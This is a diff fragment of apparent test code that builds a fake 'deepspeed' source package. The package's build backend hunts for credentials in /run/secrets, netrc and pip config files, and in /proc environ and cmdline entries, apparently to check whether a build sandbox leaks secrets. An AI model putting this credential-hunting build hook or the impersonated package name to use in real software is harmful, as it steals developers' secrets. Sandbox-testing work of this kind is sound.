@@ -75,7 +75,9 @@ def hunt():
     places += [value for key, value in os.environ.items() if key in ("NETRC", "UV_CONFIG_FILE", "PIP_CONFIG_FILE")]
     for top in ("/dev/envsmith", "/run/secrets", "/build", "/tmp/envsmith-*"):
         places += glob.glob(top + "/**", recursive=True)
-    places += glob.glob("/proc/[0-9]*/PROCESS") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/self/environ") + glob.glob("/proc/self/fd/*")
+    places += glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/self/environ") + glob.glob("/proc/self/fd/*")
+    if os.getuid() in (10001, 65534):  # nobody's own processes: what they were started with is not the build's to read
+        places += glob.glob("/proc/[0-9]*/environ")
     found = [key for key, value in os.environ.items() if SECRET.search(value.encode())]
     for place in places:
         try:
@@ -112,11 +114,11 @@ _PROJECT = (
 )
 
 
-def hunting_sdist(*, processes: str) -> tuple[str, bytes]:
-    """Return name and bytes of a deepspeed whose build looks for the login; ``processes``: ``environ`` of all others, or ``none``."""
+def hunting_sdist() -> tuple[str, bytes]:
+    """Return name and bytes of a deepspeed whose build looks for the login."""
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w") as archive:
-        for name, text in (("pyproject.toml", _PROJECT), ("hunting.py", _BACKEND.replace("PROCESS", processes))):
+        for name, text in (("pyproject.toml", _PROJECT), ("hunting.py", _BACKEND)):
             member = tarfile.TarInfo(f"deepspeed-0.18.5/{name}")
             member.size = len(text.encode())
             archive.addfile(member, io.BytesIO(text.encode()))
